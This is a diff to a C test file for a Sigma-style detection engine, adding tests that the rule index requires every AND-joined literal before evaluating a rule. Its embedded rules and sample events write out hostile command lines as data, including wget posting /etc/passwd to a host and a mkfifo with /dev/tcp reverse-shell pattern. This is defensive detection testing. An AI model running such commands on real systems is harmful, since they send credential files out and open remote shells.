@@ -8,8 +8,9 @@
  * made from the rules' own values: copied, embedded in other text, with
  * their case changed, their wildcards filled in, a character dropped (near
  * misses) or mixed with other rules' values. The rules are a built-in set
- * that exercises every modifier plus, when ../shared/sigma is there, the
- * SigmaHQ corpus (Linux rules on Yamori's schema, every rule flat).
+ * that exercises every modifier, Yamori's rule pack (rules/) and, when
+ * ../shared/sigma is there, the SigmaHQ corpus (Linux rules on Yamori's
+ * schema, every rule flat).
  */
 #include <dirent.h>
 #include <errno.h>
@@ -129,10 +130,28 @@ static const char *event_name(const struct fieldmap_class *cls, const char *name
 
 struct evfield {
     char name[80];
-    char value[256];
+    char value[512];
 };
 
-/* Fills an event from the values of a few random rules. */
+/* One value for vm m, appended to out (after a space when not empty). */
+static void append_value(const struct vm *m, char *out, size_t cap)
+{
+    char v[256];
+    if (m->kind == VM_FIELDREF || m->kind == VM_NULL || m->kind == VM_EXISTS)
+        snprintf(v, sizeof(v), "x");
+    else if (m->kind == VM_CIDR)
+        snprintf(v, sizeof(v), "10.%u.%u.%u", (unsigned)(rnd() % 256), (unsigned)(rnd() % 256),
+                 (unsigned)(rnd() % 256));
+    else
+        make_value(m->text ? m->text : "", v, sizeof(v));
+    size_t k = strlen(out);
+    snprintf(out + k, cap - k, "%s%s", k ? " " : "", v);
+}
+
+/* Fills an event from the values of a few random rules. A field that
+ * several conditions name gets their values one after the other, and a
+ * condition with `|all` usually gets every value, so that events also
+ * satisfy rules that need several literals at once. */
 static int build_event(const struct detect_engine *eng, const struct fieldmap_class *cls,
                        struct evfield *f, int maxf)
 {
@@ -142,22 +161,29 @@ static int build_event(const struct detect_engine *eng, const struct fieldmap_cl
         const struct rule *ru = eng->rules[rnd() % eng->nrules];
         if (ru->corr || !ru->nfconds)
             continue;
-        for (uint32_t i = 0; i < ru->nfconds && n < maxf; i++) {
+        for (uint32_t i = 0; i < ru->nfconds; i++) {
             const struct fcond *fc = &ru->fconds[(i + rnd()) % ru->nfconds];
             if (!fc->nvm || rnd() % 5 == 0)
                 continue;
-            const struct vm *m = &fc->vms[rnd() % fc->nvm];
             const char *name = fc->field_name ? event_name(cls, fc->field_name)
                                               : (cls ? "ProcessCommandLine" : "message");
-            snprintf(f[n].name, sizeof(f[n].name), "%s", name);
-            if (m->kind == VM_FIELDREF || m->kind == VM_NULL || m->kind == VM_EXISTS)
-                snprintf(f[n].value, sizeof(f[n].value), "x");
-            else if (m->kind == VM_CIDR)
-                snprintf(f[n].value, sizeof(f[n].value), "10.%u.%u.%u", (unsigned)(rnd() % 256),
-                         (unsigned)(rnd() % 256), (unsigned)(rnd() % 256));
-            else
-                make_value(m->text ? m->text : "", f[n].value, sizeof(f[n].value));
-            n++;
+            int k = 0;
+            while (k < n && strcmp(f[k].name, name) != 0)
+                k++;
+            if (k == n) {
+                if (n == maxf)
+                    continue;
+                snprintf(f[n].name, sizeof(f[n].name), "%s", name);
+                f[n].value[0] = '\0';
+                n++;
+            }
+            if (fc->all && rnd() % 4 != 0) {
+                for (uint32_t v = 0; v < fc->nvm; v++)
+                    if (v == 0 || fc->vms[v].group != fc->vms[v - 1].group)
+                        append_value(&fc->vms[v], f[k].value, sizeof(f[k].value));
+            } else {
+                append_value(&fc->vms[rnd() % fc->nvm], f[k].value, sizeof(f[k].value));
+            }
         }
     }
     return n;
@@ -371,6 +397,96 @@ static void corpus_rules_agree(void)
     CHECK_MSG(matched > 100, "only %d events matched", matched);
 }
 
+/* Yamori's pack, whose rules join many selections (helpers of
+ * correlations, `1 of` lists of tool and command pairs). */
+static void pack_rules_agree(void)
+{
+    struct stat st;
+    if (stat("rules", &st) < 0)
+        SKIP("no rule pack at rules/");
+    struct files fs = {0};
+    fs.cap = 1024;
+    fs.text = calloc(fs.cap, sizeof(char *));
+    fs.name = calloc(fs.cap, sizeof(char *));
+    fs.len = calloc(fs.cap, sizeof(size_t));
+    CHECK(fs.text && fs.name && fs.len);
+    walk(&fs, "rules", false);
+    CHECK_MSG(fs.n > 50, "only %zu pack files", fs.n);
+    char why[4096];
+    int matched;
+    check_set((const char *const *)fs.text, fs.len, (const char *const *)fs.name, fs.n, 400, why,
+              sizeof(why), &matched);
+    for (size_t i = 0; i < fs.n; i++) {
+        free(fs.text[i]);
+        free(fs.name[i]);
+    }
+    free(fs.text);
+    free(fs.name);
+    free(fs.len);
+    CHECK_MSG(matched >= 0, "%s", why);
+    CHECK_MSG(matched > 100, "only %d events matched", matched);
+}
+
+/* Rules evaluated for one JSON event (the candidates the index picked). */
+static uint64_t candidates(struct detect_engine *eng, const char *json, int *matches)
+{
+    char err[256];
+    struct detect_event *ev = detect_event_new(eng, err, sizeof(err));
+    struct detect_event_stats s;
+    if (!ev)
+        return UINT64_MAX;
+    *matches = detect_event_set_json(ev, json, strlen(json), err, sizeof(err)) < 0
+                   ? -1 : detect_match(ev, NULL, NULL, NULL);
+    detect_event_stats(ev, &s);
+    detect_event_free(ev);
+    return s.candidates;
+}
+
+/* A rule is evaluated only when the literals of every condition it joins
+ * with AND occur (for one of the alternatives an OR offers), not as soon
+ * as one of them does. */
+static void and_needs_every_literal(void)
+{
+    static const char rules[] =
+        "title: Both\nlogsource: {product: linux, category: process_creation}\n"
+        "detection:\n    a:\n        Image|endswith: /curl\n"
+        "    b:\n        CommandLine|contains: --upload-file\n    condition: a and b\n---\n"
+        "title: Either pair\nlogsource: {product: linux, category: process_creation}\n"
+        "detection:\n    a:\n        Image|endswith: /wget\n        CommandLine|contains: --post-file\n"
+        "    b:\n        Image|endswith: /scp\n        CommandLine|contains: ' -r /etc'\n"
+        "    condition: a or b\n---\n"
+        "title: All values\nlogsource: {product: linux, category: process_creation}\n"
+        "detection:\n    s:\n        CommandLine|contains|all: [mkfifo, /dev/tcp/]\n"
+        "    condition: s\n---\n"
+        /* a rule keyed on the program's path: the index reads that field
+         * anyway, so the others' conditions on it are worth checking */
+        "title: Vendor\nlogsource: {product: linux, category: process_creation}\n"
+        "detection:\n    s:\n        Image|startswith: /opt/vendor/\n    condition: s\n";
+    struct t_diag dg;
+    int m;
+
+    memset(&dg, 0, sizeof(dg));
+    struct detect_engine *eng = t_engine(DETECT_SCHEMA_YAMORI, rules, &dg, NULL);
+    CHECK(eng);
+#define EV(path, cmd) "{\"EventType\":\"process\",\"ActionType\":\"ProcessCreated\"," \
+                      "\"FolderPath\":\"" path "\",\"ProcessCommandLine\":\"" cmd "\"}"
+    CHECK_INT(candidates(eng, EV("/usr/bin/curl", "curl -s https://example.org/"), &m), ==, 0);
+    CHECK_INT(candidates(eng, EV("/usr/bin/true", "true --upload-file x"), &m), ==, 0);
+    CHECK_INT(candidates(eng, EV("/usr/bin/curl", "curl --upload-file x https://e.org/"), &m), ==, 1);
+    CHECK_INT(m, ==, 1);
+    /* the literals of two different alternatives do not make one */
+    CHECK_INT(candidates(eng, EV("/usr/bin/wget", "wget -r /etc https://e.org/"), &m), ==, 0);
+    CHECK_INT(candidates(eng, EV("/usr/bin/scp", "scp -r /etc host:/tmp"), &m), ==, 1);
+    CHECK_INT(m, ==, 1);
+    CHECK_INT(candidates(eng, EV("/usr/bin/wget", "wget --post-file=/etc/passwd e.org"), &m), ==, 1);
+    CHECK_INT(m, ==, 1);
+    CHECK_INT(candidates(eng, EV("/usr/bin/mkfifo", "mkfifo /tmp/f"), &m), ==, 0);
+    CHECK_INT(candidates(eng, EV("/usr/bin/bash", "mkfifo f; sh </dev/tcp/1.2.3.4/80"), &m), ==, 1);
+    CHECK_INT(m, ==, 1);
+#undef EV
+    detect_engine_free(eng);
+}
+
 /* A selection `Field: null` keys its rule on the field's absence: the
  * rule is tried where the field is absent or empty, and only there. */
 static void absent_field_is_a_key(void)
@@ -403,6 +519,8 @@ int main(int argc, char **argv)
     static const struct check_case cases[] = {
         {"builtin_rules_agree", builtin_rules_agree},
         {"corpus_rules_agree", corpus_rules_agree},
+        {"pack_rules_agree", pack_rules_agree},
+        {"and_needs_every_literal", and_needs_every_literal},
         {"absent_field_is_a_key", absent_field_is_a_key},
         {NULL, NULL},
     };
